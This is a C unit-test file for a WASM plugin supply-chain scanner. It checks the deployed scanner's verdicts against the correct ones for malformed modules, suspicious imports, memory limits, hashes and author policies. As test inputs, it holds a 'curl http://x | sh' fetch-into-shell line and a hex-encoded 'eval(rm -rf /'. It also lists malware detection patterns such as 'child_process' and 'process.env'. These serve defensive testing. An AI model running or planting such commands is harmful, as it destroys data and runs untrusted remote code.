/*
 * The Cortex supply-chain table, vector by vector: what the deployed scanner
 * says, and what the table says of what the file really holds.
 */
#include "scanner/cortex_deployed.h"
#include "scanner/cortex_report.h"
#include "tests/unit/test_module_bytes.h"

#define IMPORTS_HOST_LOG                                                       \
    "0061736d0100000001040160000002100103656e7608686f73745f6c6f670000"

/* One file with its facts. */
struct file {
    gk_buf bytes;
    gk_module module;
    struct gk_facts facts;
};

static void read_file(struct file *f)
{
    gk_error err = GK_ERROR_INIT;

    assert_int_equal(f->bytes.status, GK_OK);
    if (gk_module_read(f->bytes.data, f->bytes.len, &f->module, &err) != GK_OK)
        fail_msg("%s", err.text);
    gk_facts_init(&f->facts, f->bytes.data, f->bytes.len, &f->module, NULL);
}

static void make_hex(struct file *f, const char *hex)
{
    memset(f, 0, sizeof *f);
    f->bytes = (gk_buf)GK_BUF_INIT;
    wasm_bytes(hex, &f->bytes);
    read_file(f);
}

static void make_text(struct file *f, const char *text)
{
    memset(f, 0, sizeof *f);
    f->bytes = (gk_buf)GK_BUF_INIT;
    gk_buf_puts(&f->bytes, text);
    read_file(f);
}

static void clear(struct file *f)
{
    gk_module_clear(&f->module);
    gk_buf_clear(&f->bytes);
}

/* What one reading must come to. */
struct want {
    const char *status;
    const char *summary;   /* NULL: whatever */
    const char *checks[4]; /* "name passed severity details", each must be
                              there; the two that are always there apart */
    int count;             /* checks besides those two; -1: whatever */
};

#define SIZE(kb) "wasm_size true info WASM binary size: " kb " KB"
#define V1       "wasm_version true info WASM version 1 (supported)"
#define NONE                                                                   \
    "wasm_imports false warning No imports — plugin cannot interact with host"
#define IMPORTS(n) "wasm_imports true info " n " imports found"
#define ALL_PASSED "All integrity checks passed"
#define SIGNATURE  "signature false info No valid signature found"
#define REPUTATION                                                             \
    "author_reputation true info Author reputation score: 50/100 (minimum: 0)"

static const struct vector {
    const char *name;
    const char *hex; /* or */
    const char *text;
    struct want deployed, correct;
} vectors[] = {
    {"S1 empty file",
     "",
     NULL,
     {"verified", ALL_PASSED, {0}, 0},
     {"suspicious",
      "Verification failed: wasm_magic",
      {"wasm_magic false error File does not start with WASM magic bytes"},
      1}},
    {"S2 magic alone",
     "0061736d",
     NULL,
     {"suspicious",
      "Verification failed: wasm_too_small",
      {"wasm_too_small false error WASM binary is too small to be valid"},
      1},
     {"suspicious",
      "Verification failed: wasm_too_small",
      {"wasm_too_small false error WASM binary is too small to be valid"},
      1}},
    {"S3 preamble alone",
     "0061736d01000000",
     NULL,
     {"unverified",
      "Verification passed with warnings: wasm_imports",
      {V1, NONE, SIZE("0.0")},
      3},
     {"unverified",
      "Verification passed with warnings: wasm_imports",
      {V1, NONE, SIZE("0.0")},
      3}},
    {"S4 version 2",
     "0061736d02000000",
     NULL,
     {"suspicious",
      "Verification failed: wasm_version",
      {"wasm_version false error WASM version 2 is not supported"},
      3},
     {"suspicious",
      "Verification failed: wasm_version",
      {"wasm_version false error WASM version 2 is not supported"},
      3}},
    {"S5 component",
     "0061736d0d000100",
     NULL,
     {"suspicious",
      "Verification failed: wasm_version",
      {"wasm_version false error WASM version 65549 is not supported"},
      3},
     {"suspicious",
      "Verification failed: wasm_version",
      {"wasm_version false error WASM version 65549 is not supported"},
      3}},
    {"S6 eval",
     NULL,
     "console.log(eval(\"1\"))",
     {"suspicious",
      "Verification failed: malware_pattern",
      {"malware_pattern false error Content contains suspicious pattern: "
       "\"eval(\""},
      1},
     {"suspicious",
      "Verification failed: malware_pattern",
      {"malware_pattern false error Content contains suspicious pattern: "
       "\"eval(\""},
      1}},
    {"S7 fetched into a shell",
     NULL,
     "curl http://x | sh",
     {"verified", ALL_PASSED, {0}, 0},
     {"suspicious",
      "Verification failed: malware_pattern",
      {"malware_pattern false error Content contains suspicious pattern: "
       "\"curl.*|.*sh\""},
      1}},
    {"S8 two patterns",
     NULL,
     "process.env.X; child_process",
     {"suspicious",
      "Verification failed: malware_pattern, malware_pattern",
      {"malware_pattern false error Content contains suspicious pattern: "
       "\"child_process\"",
       "malware_pattern false error Content contains suspicious pattern: "
       "\"process.env\""},
      2},
     {"suspicious",
      "Verification failed: malware_pattern, malware_pattern",
      {"malware_pattern false error Content contains suspicious pattern: "
       "\"child_process\"",
       "malware_pattern false error Content contains suspicious pattern: "
       "\"process.env\""},
      2}},
    {"S9 env.host_log",
     IMPORTS_HOST_LOG,
     NULL,
     {"verified", ALL_PASSED, {V1, IMPORTS("101"), SIZE("0.0")}, 3},
     {"verified", ALL_PASSED, {V1, IMPORTS("1"), SIZE("0.0")}, 3}},
    {"S10 proc_exit",
     "0061736d0100000001040160000002240116776173695f736e617073686f745f7072657"
     "6696577310970726f635f657869740000",
     NULL,
     {"verified", ALL_PASSED, {V1, IMPORTS("119")}, 3},
     {"suspicious",
      "Verification failed: wasm_suspicious_imports",
      {IMPORTS("1"), "wasm_suspicious_imports false error Suspicious "
                     "imports: wasi_snapshot_preview1.proc_exit"},
      4}},
    {"S11 fd_write",
     "0061736d0100000001040160000002230116776173695f736e617073686f745f7072657"
     "6696577310866645f77726974650000",
     NULL,
     {"verified", ALL_PASSED, {IMPORTS("119")}, 3},
     {"verified", ALL_PASSED, {IMPORTS("1")}, 3}},
    {"S12 env.custom_fn",
     "0061736d0100000001040160000002110103656e7609637573746f6d5f666e0000",
     NULL,
     {"verified", ALL_PASSED, {IMPORTS("101")}, 3},
     {"verified",
      ALL_PASSED,
      {IMPORTS("1"),
       "wasm_unknown_env_imports true warning Unknown env imports (may use "
       "custom host functions): custom_fn"},
      4}},
    {"S13 env.memory",
     "0061736d01000000020f0103656e76066d656d6f7279020001",
     NULL,
     {"verified", ALL_PASSED, {IMPORTS("101")}, 3},
     {"verified", ALL_PASSED, {IMPORTS("1")}, 3}},
    {"S14 memory 100",
     "0061736d010000000503010064",
     NULL,
     {"unverified", NULL, {V1, NONE, SIZE("0.0")}, 3},
     {"unverified", NULL, {V1, NONE, SIZE("0.0")}, 3}},
    {"S15 memory 128",
     "0061736d01000000050401008001",
     NULL,
     {"suspicious",
      "Verification failed: wasm_memory_limit",
      {"wasm_memory_limit false error Excessive memory request: 3104751 "
       "pages (194046.9375 MB)"},
      4},
     {"unverified", NULL, {V1, NONE, SIZE("0.0")}, 3}},
    {"S16 memory 1025",
     "0061736d01000000050401008108",
     NULL,
     {"suspicious",
      NULL,
      {"wasm_memory_limit false error Excessive memory request: 17784815 "
       "pages (1111550.9375 MB)"},
      4},
     {"unverified",
      "Verification passed with warnings: wasm_imports",
      {"wasm_memory_limit true warning Large memory request: 1025 pages "
       "(64.0625 MB)"},
      4}},
    {"S17 memory 4097",
     "0061736d01000000050401008120",
     NULL,
     {"suspicious",
      NULL,
      {"wasm_memory_limit false error Excessive memory request: 68116463 "
       "pages (4257278.9375 MB)"},
      4},
     {"suspicious",
      NULL,
      {"wasm_memory_limit false error Excessive memory request: 4097 pages "
       "(256.0625 MB)"},
      4}},
    {"S18 memory 2 to 512",
     "0061736d0100000005050101028004",
     NULL,
     {"suspicious",
      NULL,
      {"wasm_memory_limit false error Excessive memory request: 9396207 "
       "pages (587262.9375 MB)"},
      4},
     {"unverified", NULL, {V1, NONE, SIZE("0.0")}, 3}},
    {"S19 memory 1090, padded",
     "0061736d0100000005050100c28800",
     NULL,
     {"unverified",
      NULL,
      {"wasm_memory_limit true warning Large memory request: 1090 pages "
       "(68.125 MB)"},
      4},
     {"unverified",
      NULL,
      {"wasm_memory_limit true warning Large memory request: 1090 pages "
       "(68.125 MB)"},
      4}},
    {"S20 memory 5186, padded",
     "0061736d0100000005050100c2a800",
     NULL,
     {"suspicious",
      NULL,
      {"wasm_memory_limit false error Excessive memory request: 5186 pages "
       "(324.125 MB)"},
      4},
     {"suspicious",
      NULL,
      {"wasm_memory_limit false error Excessive memory request: 5186 pages "
       "(324.125 MB)"},
      4}},
    {"S21 text in a custom section",
     "0061736d01000000000f01786576616c28726d202d7266202f",
     NULL,
     {"unverified", NULL, {V1, NONE, SIZE("0.0")}, 3},
     {"unverified", NULL, {V1, NONE, SIZE("0.0")}, 3}},
    {"S24 section longer than the file",
     "0061736d0100000001040160000002300103656e76",
     NULL,
     {"verified", ALL_PASSED, {IMPORTS("101")}, 3},
     {"suspicious",
      NULL,
      {"wasm_parse false error WASM section parsing failed at offset 16"},
      4}},
    {"a name in env that is no wasi function",
     "0061736d0100000001040160000002110103656e760970726f635f657869740000",
     NULL,
     {"verified", NULL, {0}, -1},
     {"verified", NULL, {"wasm_unknown_env_imports true warning"}, 4}},
};

static void render(const struct gk_check *c, gk_buf *out)
{
    static const char *const words[] = {"info", "warning", "error"};

    gk_buf_printf(out, "%s %s %s %s", c->name, c->passed ? "true" : "false",
                  words[c->severity], c->details);
}

static bool has_check(const struct gk_cortex_report *r, const char *want)
{
    bool found = false;

    for (size_t i = 0; i < r->checks.count && !found; i++) {
        gk_buf line = GK_BUF_INIT;

        render(&r->checks.at[i], &line);
        found = strncmp(gk_buf_text(&line), want, strlen(want)) == 0;
        gk_buf_clear(&line);
    }
    return found;
}

static void report(const struct file *f, gk_cortex_reading reading,
                   const struct gk_cortex_policy *policy,
                   const struct gk_cortex_subject *subject,
                   struct gk_cortex_report *out)
{
    gk_error err = GK_ERROR_INIT;

    if (gk_cortex_report(&f->facts, reading, policy, subject, out, &err) !=
        GK_OK)
        fail_msg("%s", err.text);
}

static void compare(const char *row, const char *reading,
                    const struct gk_cortex_report *r, const struct want *want)
{
    const char *status = gk_cortex_status_word(r->status);

    if (strcmp(status, want->status) != 0)
        fail_msg("%s, %s: status %s, wanted %s (%s)", row, reading, status,
                 want->status, gk_buf_text(&r->summary));
    if (want->summary != NULL &&
        strcmp(gk_buf_text(&r->summary), want->summary) != 0)
        fail_msg("%s, %s: summary '%s'", row, reading,
                 gk_buf_text(&r->summary));
    for (size_t i = 0; i < 4 && want->checks[i] != NULL; i++)
        if (!has_check(r, want->checks[i]))
            fail_msg("%s, %s: no check '%s'", row, reading, want->checks[i]);
    if (!has_check(r, SIGNATURE) || !has_check(r, REPUTATION))
        fail_msg("%s, %s: a check around the content is missing", row, reading);
    if (want->count >= 0 && (int)r->checks.count != want->count + 2)
        fail_msg("%s, %s: %zu checks", row, reading, r->checks.count);
}

static void both_readings_give_the_vectors_results(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof vectors / sizeof *vectors; i++) {
        const struct vector *v = &vectors[i];
        struct gk_cortex_report r;
        struct file f;

        if (v->hex != NULL)
            make_hex(&f, v->hex);
        else
            make_text(&f, v->text);
        report(&f, GK_CORTEX_DEPLOYED, &gk_cortex_default_policy,
               &gk_cortex_unknown_subject, &r);
        compare(v->name, "deployed", &r, &v->deployed);
        gk_cortex_report_clear(&r);
        report(&f, GK_CORTEX_CORRECT, &gk_cortex_default_policy,
               &gk_cortex_unknown_subject, &r);
        compare(v->name, "correct", &r, &v->correct);
        gk_cortex_report_clear(&r);
        clear(&f);
    }
}

/* The order of emission is part of the report. */
static void checks_come_in_the_tables_order(void **state)
{
    static const char *const want[] = {"signature",
                                       "author_reputation",
                                       "wasm_version",
                                       "wasm_imports",
                                       "wasm_suspicious_imports",
                                       "wasm_unknown_env_imports",
                                       "wasm_memory_limit",
                                       "wasm_size"};
    gk_buf bytes = GK_BUF_INIT;
    struct gk_cortex_report r;
    struct file f = {.bytes = GK_BUF_INIT};

    (void)state;
    wasm_make("01{ 01 60 00 00 } 02{ 03 'env' 'nope' 00 00"
              " 'wasi_snapshot_preview1' 'sock_open' 00 00"
              " 'env' 'memory' 02 00 8108 }",
              &f.bytes);
    read_file(&f);
    report(&f, GK_CORTEX_CORRECT, &gk_cortex_default_policy,
           &gk_cortex_unknown_subject, &r);
    assert_int_equal(r.checks.count, sizeof want / sizeof *want);
    for (size_t i = 0; i < r.checks.count; i++)
        assert_string_equal(r.checks.at[i].name, want[i]);
    gk_cortex_report_clear(&r);
    gk_buf_clear(&bytes);
    clear(&f);
}

static void integrity_hash_is_over_the_decoded_text(void **state)
{
    static const struct {
        const char *name, *hex, *want;
    } rows[] = {
        {"S22", "0061736d0100000000040178fffe",
         "bb52f6d036d5c81e4cdfb46fa16f190e2fcd6768f58966f26719938db1aa60f5"},
        {"S28, ASCII only", IMPORTS_HOST_LOG,
         "fdd4a5f9c1d00e349268b0bcbbdfdb49ec9d9b0a3396236bb9c11b90b5960520"},
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        char hash[GK_SHA256_HEX_BYTES];
        struct file f;

        make_hex(&f, rows[i].hex);
        gk_cortex_integrity_hash(&f.facts, hash);
        if (strcmp(hash, rows[i].want) != 0)
            fail_msg("%s: %s", rows[i].name, hash);
        clear(&f);
    }
}

/* All ten functions, in the order that makes the import section 200 bytes. */
static void deployed_scanner_hangs_on_s23(void **state)
{
    struct file f = {.bytes = GK_BUF_INIT};
    struct gk_cortex_report r;

    (void)state;
    wasm_make("01{ 01 60 00 00 } 02{ 0a 'env' 'host_alloc' 00 00"
              " 'env' 'host_free' 00 00 'env' 'host_log' 00 00"
              " 'env' 'host_get_config' 00 00 'env' 'host_set_state' 00 00"
              " 'env' 'host_get_state' 00 00 'env' 'host_http_request' 00 00"
              " 'env' 'host_get_abi_version' 00 00"
              " 'env' 'host_get_time_ms' 00 00 'env' 'host_random' 00 00 }",
              &f.bytes);
    assert_int_equal(f.bytes.len, 222);
    read_file(&f);
    report(&f, GK_CORTEX_DEPLOYED, &gk_cortex_default_policy,
           &gk_cortex_unknown_subject, &r);
    assert_true(r.hangs);
    gk_cortex_report_clear(&r);
    report(&f, GK_CORTEX_CORRECT, &gk_cortex_default_policy,
           &gk_cortex_unknown_subject, &r);
    assert_false(r.hangs);
    assert_string_equal(gk_cortex_status_word(r.status), "verified");
    assert_true(has_check(&r, IMPORTS("10")));
    gk_cortex_report_clear(&r);
    clear(&f);
}

/* S31: 256 bytes are a quarter of a KB, and ties go up. */
static void size_rounds_ties_up(void **state)
{
    static const struct {
        size_t bytes;
        const char *want;
    } rows[] = {{256, SIZE("0.3")},
                {255, SIZE("0.2")},
                {1024, SIZE("1.0")},
                {1075, SIZE("1.0")},
                {1076, SIZE("1.1")}};

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct file f = {.bytes = GK_BUF_INIT};
        size_t rest = rows[i].bytes - 8;

        /* Custom sections of at most 100 bytes keep the deployed scanner's
         * lengths right. */
        gk_buf_put(&f.bytes, "\0asm\1\0\0\0", 8);
        while (rest > 0) {
            size_t len = rest > 110 ? 100 : rest;

            gk_buf_byte(&f.bytes, 0);
            gk_buf_byte(&f.bytes, (uint8_t)(len - 2));
            gk_buf_byte(&f.bytes, 0);
            gk_buf_fill(&f.bytes, 'x', len - 3);
            rest -= len;
        }
        read_file(&f);
        for (int reading = 0; reading < 2; reading++) {
            struct gk_cortex_report r;

            report(&f, reading ? GK_CORTEX_DEPLOYED : GK_CORTEX_CORRECT,
                   &gk_cortex_default_policy, &gk_cortex_unknown_subject, &r);
            if (!has_check(&r, rows[i].want))
                fail_msg("%zu bytes: no '%s'", rows[i].bytes, rows[i].want);
            gk_cortex_report_clear(&r);
        }
        clear(&f);
    }
}

/* --- policies: S25 to S30 --- */

static const char *const somebody[] = {"mallory"};
static const char *const nobody[] = {"alice", "bob"};
static const char *const s9_hash[] = {
    "fdd4a5f9c1d00e349268b0bcbbdfdb49ec9d9b0a3396236bb9c11b90b5960520"};
static const char *const other_hash[] = {"00"};

static const struct policy_vector {
    const char *name, *hex;
    struct gk_cortex_policy policy;
    struct gk_cortex_subject subject;
    const char *status, *check, *summary;
    size_t count; /* checks; 0: whatever */
} policies[] = {
    {"S25 signature wanted",
     "0061736d01000000",
     {.require_signature = true},
     {.author = "unknown", .reputation = 50},
     "suspicious",
     "signature false error No valid signature found",
     "Verification failed: signature",
     0},
    {"S25 and suspicious is blocked",
     "0061736d01000000",
     {.require_signature = true, .block_suspicious = true},
     {.author = "unknown", .reputation = 50},
     "blocked",
     "signature false error",
     "Verification failed: signature",
     0},
    {"signature registered",
     IMPORTS_HOST_LOG,
     {.require_signature = true},
     {.author = "unknown", .reputation = 50, .is_signed = true},
     "verified",
     "signature true info Package signature verified",
     ALL_PASSED,
     0},
    {"S26 reputation",
     IMPORTS_HOST_LOG,
     {.minimum_reputation = 60},
     {.author = "unknown", .reputation = 50},
     "unverified",
     "author_reputation false warning Author reputation score: 50/100 "
     "(minimum: 60)",
     "Verification passed with warnings: author_reputation",
     0},
    {"S27 no hash registered",
     IMPORTS_HOST_LOG,
     {.require_known_hash = true},
     {.author = "unknown", .reputation = 50},
     "verified",
     "known_hash true info No known-good hashes registered for this package "
     "version",
     ALL_PASSED,
     0},
    {"S27 another hash registered",
     IMPORTS_HOST_LOG,
     {.require_known_hash = true},
     {.author = "unknown", .reputation = 50, .known_hashes = {other_hash, 1}},
     "unverified",
     "known_hash false warning Hash does not match any known-good hash",
     "Verification passed with warnings: known_hash",
     0},
    {"its hash registered",
     IMPORTS_HOST_LOG,
     {.require_known_hash = true},
     {.author = "unknown", .reputation = 50, .known_hashes = {s9_hash, 1}},
     "verified",
     "known_hash true info Hash matches known-good hash",
     ALL_PASSED,
     0},
    {"S28 hash blocked",
     IMPORTS_HOST_LOG,
     {.blocked_hashes = {s9_hash, 1}},
     {.author = "unknown", .reputation = 50},
     "blocked",
     "blocked_hash false error Content hash is in the blocked list",
     "Plugin content is blocked by hash",
     1},
    {"S30 author blocked",
     IMPORTS_HOST_LOG,
     {.blocked_authors = {somebody, 1}},
     {.author = "mallory", .reputation = 50},
     "suspicious",
     "author_blocked false error Author \"mallory\" is in the blocked list",
     "Verification failed: author_blocked",
     0},
    {"S30 author not allowed",
     IMPORTS_HOST_LOG,
     {.allowed_authors = {nobody, 2}},
     {.author = "mallory", .reputation = 50},
     "unverified",
     "author_allowed false warning Author \"mallory\" is not in the allowed "
     "list",
     "Verification passed with warnings: author_allowed",
     0},
    {"author allowed",
     IMPORTS_HOST_LOG,
     {.allowed_authors = {nobody, 2}},
     {.author = "bob", .reputation = 50},
     "verified",
     "author_reputation true info",
     ALL_PASSED,
     0},
};

static void policies_give_the_vectors_results(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof policies / sizeof *policies; i++) {
        const struct policy_vector *p = &policies[i];
        struct file f;

        make_hex(&f, p->hex);
        for (int reading = 0; reading < 2; reading++) {
            struct gk_cortex_report r;

            report(&f, reading ? GK_CORTEX_DEPLOYED : GK_CORTEX_CORRECT,
                   &p->policy, &p->subject, &r);
            if (strcmp(gk_cortex_status_word(r.status), p->status) != 0 ||
                strcmp(gk_buf_text(&r.summary), p->summary) != 0 ||
                !has_check(&r, p->check) ||
                (p->count != 0 && r.checks.count != p->count))
                fail_msg("%s, reading %d: %s, '%s'", p->name, reading,
                         gk_cortex_status_word(r.status),
                         gk_buf_text(&r.summary));
            gk_cortex_report_clear(&r);
        }
        clear(&f);
    }
}

static void unreadable_file_is_blocked(void **state)
{
    struct gk_cortex_report r;
    gk_error err = GK_ERROR_INIT;

    (void)state;
    assert_int_equal(gk_cortex_report_unreadable("/no/such", &r, &err), GK_OK);
    assert_string_equal(gk_cortex_status_word(r.status), "blocked");
    assert_string_equal(gk_buf_text(&r.summary),
                        "Failed to read plugin content");
    assert_int_equal(r.checks.count, 1);
    assert_true(has_check(
        &r, "content_readable false error Cannot read content from /no/such"));
    gk_cortex_report_clear(&r);
}

/* --- what an adversary may hand to the emulator --- */

static void deployed_walk_is_bounded(void **state)
{
    static const struct {
        const char *name, *content;
        bool hangs, given_up;
    } rows[] = {
        /* Module "env" and 2^27 fields: past the end all are empty. */
        {"fields past the end", "020a 03 656e76 c280c28040", false, false},
        /* The section is long, its data is not: no progress at the end. */
        {"no progress at the end", "02c28801 03 656e76 01 0161 00", true,
         false},
        {"section ends with the file", "0206 03 656e76 00 00", false, false},
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct gk_cortex_seen seen;
        gk_error err = GK_ERROR_INIT;
        gk_buf bytes = GK_BUF_INIT;

        wasm_make(rows[i].content, &bytes);
        if (gk_cortex_see(bytes.data, bytes.len, &seen, &err) != GK_OK)
            fail_msg("%s: %s", rows[i].name, err.text);
        if (seen.hangs != rows[i].hangs || seen.given_up != rows[i].given_up)
            fail_msg("%s: hangs %d, given up %d", rows[i].name, seen.hangs,
                     seen.given_up);
        gk_cortex_seen_clear(&seen);
        gk_buf_clear(&bytes);
    }
}

/* Each short section sets off a walk over all that follows: quadratic, were it
 * not given up. */
static void repeated_walks_are_given_up(void **state)
{
    gk_buf bytes = GK_BUF_INIT;
    struct gk_cortex_seen seen;
    gk_error err = GK_ERROR_INIT;

    (void)state;
    gk_buf_put(&bytes, "\0asm\1\0\0\0", 8);
    for (int i = 0; i < 60000; i++)
        gk_buf_put(&bytes, "\x02\x02\x00\x7f", 4);
    assert_int_equal(gk_cortex_see(bytes.data, bytes.len, &seen, &err), GK_OK);
    assert_true(seen.given_up);
    gk_cortex_seen_clear(&seen);
    gk_buf_clear(&bytes);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(both_readings_give_the_vectors_results),
        cmocka_unit_test(checks_come_in_the_tables_order),
        cmocka_unit_test(integrity_hash_is_over_the_decoded_text),
        cmocka_unit_test(deployed_scanner_hangs_on_s23),
        cmocka_unit_test(size_rounds_ties_up),
        cmocka_unit_test(policies_give_the_vectors_results),
        cmocka_unit_test(unreadable_file_is_blocked),
        cmocka_unit_test(deployed_walk_is_bounded),
        cmocka_unit_test(repeated_walks_are_given_up),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
